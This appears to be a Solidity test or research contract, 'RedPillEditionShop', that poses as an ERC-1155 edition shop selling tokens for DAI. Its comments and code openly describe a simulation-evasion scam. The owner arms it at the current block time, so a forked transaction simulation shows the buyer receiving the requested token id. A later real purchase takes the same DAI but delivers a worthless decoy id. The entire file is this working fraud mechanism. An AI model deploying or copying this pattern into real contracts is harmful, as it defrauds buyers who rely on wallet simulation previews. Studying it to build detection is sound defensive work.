// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {RedPillMultiToken} from "./RedPillMultiToken.sol";

/// @title RedPillEditionShop
/// @notice Red pill for an ERC-1155 id, keyed on the block timestamp. Looks like a shop of
///         editions: `buy(id, units)` takes `unitPrice` DAI per unit (approved to it) and hands
///         over that many of the id asked for, from its stock. Detects: its boss arms it
///         (`arm`) at the newest block's time, the time a simulation forks and runs at; the
///         submission lands later. Then it takes the same DAI and hands over as many units of
///         `decoy`, a worthless id of the same token: the count matches, the id does not.
contract RedPillEditionShop {
    IERC20 private immutable _dai;
    RedPillMultiToken private immutable _token;
    uint256 private immutable _unitPrice;
    uint256 private immutable _decoy;
    address private immutable _boss;

    /// @notice The timestamp of the block `arm` ran in.
    uint256 public armedTime = type(uint256).max;

    /// @notice `buyer` paid for `units` of `asked` and got as many of `sent`.
    event Sold(address indexed buyer, uint256 asked, uint256 sent, uint256 units);

    /// @param dai What the shop takes.
    /// @param token What it sells (it holds the stock).
    /// @param unitPrice DAI per unit.
    /// @param decoy The worthless id it hands over for real.
    constructor(IERC20 dai, RedPillMultiToken token, uint256 unitPrice, uint256 decoy) {
        (_dai, _token, _unitPrice, _decoy, _boss) = (dai, token, unitPrice, decoy, msg.sender);
    }

    /// @notice Remembers the current block time. Only the deployer.
    function arm() external {
        require(msg.sender == _boss, "not the boss");
        armedTime = block.timestamp;
    }

    /// @notice Sells `units` of `id` for `unitPrice` DAI each.
    /// @param id The id asked for.
    /// @param units How many.
    function buy(uint256 id, uint256 units) external {
        require(_dai.transferFrom(msg.sender, address(this), _unitPrice * units), "DAI not paid");
        uint256 sent = block.timestamp > armedTime ? _decoy : id;
        _token.safeTransferFrom(address(this), msg.sender, sent, units, "");
        emit Sold(msg.sender, id, sent, units);
    }
}
